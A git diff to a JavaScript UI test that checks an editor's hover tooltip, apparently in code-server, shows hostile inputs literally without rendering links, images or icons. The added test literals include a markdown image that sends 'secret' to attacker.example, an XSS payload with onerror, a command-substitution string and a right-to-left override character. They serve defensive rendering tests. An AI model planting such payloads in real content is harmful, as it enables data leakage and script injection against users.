@@ -113,8 +113,11 @@ export async function runUi({ codeServer, runDir, log }) {
       if (!text.includes(hostile)) throw new Error(`hover lacks the literal token: ${text.slice(0, 300)}`);
       const links = await page.evaluate(() => [...document.querySelectorAll('.monaco-hover a')].map((link) => link.getAttribute('href') ?? link.getAttribute('data-href') ?? link.textContent));
       if (links.some((link) => /command:|attacker/.test(link ?? ''))) throw new Error(`the hover has links: ${links.join(', ')}`);
-      const images = await page.evaluate(() => document.querySelectorAll('.monaco-hover img').length);
-      if (images > 0) throw new Error('the hover rendered an image');
+      const images = await page.evaluate(() => document.querySelectorAll('.monaco-hover img, .monaco-hover .codicon-alert').length);
+      if (images > 0) throw new Error('the hover rendered an image or an icon');
+      for (const literal of ['␣![](https://attacker.example/?q=secret)', '␣<img␣src=x␣onerror=alert(1)>', '␣$(alert)', '␣``', '␣|', '␣&lt;', '<|endoftext|>', '▁the', '⟨U+202E⟩evil']) {
+        if (!text.includes(literal)) throw new Error(`the hover does not show “${literal}” literally: ${text.slice(0, 600)}`);
+      }
     });
     await page.screenshot({ path: path.join(artifacts, 'hover-hostile.png') });
   } catch (error) {
